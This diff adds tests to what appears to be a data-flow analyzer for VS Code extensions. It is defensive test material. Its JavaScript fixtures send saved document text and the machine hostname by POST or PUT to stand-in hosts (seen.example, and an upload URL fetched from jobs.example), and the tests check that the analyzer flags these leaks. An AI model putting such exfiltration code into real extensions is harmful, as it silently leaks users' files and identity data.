@@ -198,4 +198,52 @@ class StreamsAndPromisesTest {
 
         assertThat(analysis.flowNames()).containsExactly("editor-document -> file-write");
     }
+
+    @Test
+    void followsAQueueThatAnIteratorWaitsFor() {
+        Analysis analysis = Analysis.ofActivate("""
+                class Queue {
+                  constructor() { this.items = []; }
+                  put(item) { this.items.push(item); this.wake?.(); }
+                  async *[Symbol.asyncIterator]() {
+                    for (;;) {
+                      while (this.items.length) yield this.items.shift();
+                      await new Promise(resolve => (this.wake = resolve));
+                    }
+                  }
+                }
+                const queue = new Queue();
+                async function pump() {
+                  for await (const item of queue) fetch('https://seen.example', { method: 'POST', body: item.text });
+                }
+                pump();
+                vscode.workspace.onDidSaveTextDocument(document => queue.put({ text: document.getText() }));
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
+    }
+
+    @Test
+    void followsAStreamThatItsControllerFills() {
+        Analysis analysis = Analysis.ofActivate("""
+                const body = new ReadableStream({
+                  pull(controller) { controller.enqueue(new TextEncoder().encode(os.hostname())); controller.close(); }
+                });
+                fetch('https://seen.example', { method: 'POST', body, duplex: 'half' });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
+    }
+
+    @Test
+    void marksARequestToWhereAnAnswerSays() {
+        Analysis analysis = Analysis.ofActivate("""
+                (async () => {
+                  const { upload } = await (await fetch('https://jobs.example/next')).json();
+                  fetch(upload, { method: 'PUT', body: os.hostname() });
+                })();
+                """);
+
+        assertThat(analysis.guards("account-identity", "network-send")).containsExactly("host-from-network");
+    }
 }
